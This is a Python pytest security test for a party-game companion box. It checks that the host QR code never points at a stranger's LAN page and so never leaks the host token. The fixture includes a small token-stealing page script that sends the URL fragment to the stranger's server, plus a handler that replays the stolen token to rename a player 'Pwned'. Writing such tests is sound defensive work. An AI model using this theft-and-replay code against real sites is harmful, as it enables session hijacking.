"""The host-token theft of a stranger on the same Wi-Fi, played end to end in chromium on loopback.

The stranger runs a page of their own at 127.0.0.2 (another address of this machine standing in
for their phone on the LAN) on the big screen's port, and asks the box, through the page route,
to put that address in the OLED's host QR. The host then opens the host QR as their phone would
(decoded from the OLED, opened in chromium). Had the QR pointed at the stranger, their page would
read the token from the address's fragment and use it to rename player 1 "Pwned". It must point
at the box, and the stranger must get nothing."""
from __future__ import annotations

import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from helpers.lan import post, qr_texts, show_host_qr
from pi_companion.web import headless
from pi_companion.web.live import free_port, live_box, until

STRANGER = "127.0.0.2"
THIEF_PAGE = b"""<!doctype html><title>free games</title><script>
fetch("/steal?t=" + encodeURIComponent(location.hash.slice(3)));
</script>"""


def command(url: str, body: dict, token: str) -> tuple[int, dict]:
    return post(url, json.dumps(body).encode(), {"X-Host-Token": token})


def stranger_server(port: int, box_base: str, stolen: list[str]) -> ThreadingHTTPServer:
    """The stranger's page: it sends the fragment home, and home uses it on the box at once."""
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path.startswith("/steal?t="):
                token = self.path.split("=", 1)[1]
                stolen.append(token)
                command(box_base + "/api/command", {"cmd": "rename", "player": 0, "name": "Pwned"}, token)
                body = b"ok"
            else:
                body = THIEF_PAGE
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args) -> None:
            pass
    server = ThreadingHTTPServer((STRANGER, port), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def test_the_host_qr_never_points_at_a_strangers_page(tmp_path):
    why = headless.missing()
    if why:
        pytest.fail(why)
    port = free_port()
    stolen: list[str] = []
    with live_box(tmp_path, board_url=f"http://testbox.local:{port}/", web_port=port) as live:
        thief = stranger_server(port, live.base, stolen)
        try:
            status, reply = command(live.base + "/api/command", {"cmd": "address", "address": STRANGER}, "x")
            assert status == 400 and reply["error"].startswith("unknown command"), reply
            box = live.box
            show_host_qr(live)
            until(lambda: qr_texts(box.display.device.image), 5, "the OLED never drew the host QR")
            scanned = qr_texts(box.display.device.image)[0]
            with headless.chromium(*headless.SIZES["phone"]) as phone:
                phone.get(scanned)                          # the host's phone opens what it scanned
                time.sleep(1.5)                             # time for a theft to land
                assert stolen == [] and box.engine.players[0] == "Ada", (stolen, box.engine.players)
                assert phone.execute_script("return location.host") == f"127.0.0.1:{port}"
                headless.wait(phone, lambda d: d.find_element("id", "status").text == "live")
            assert scanned == f"http://127.0.0.1:{port}/host#t={live.hub.token}"
        finally:
            thief.shutdown()
            thief.server_close()
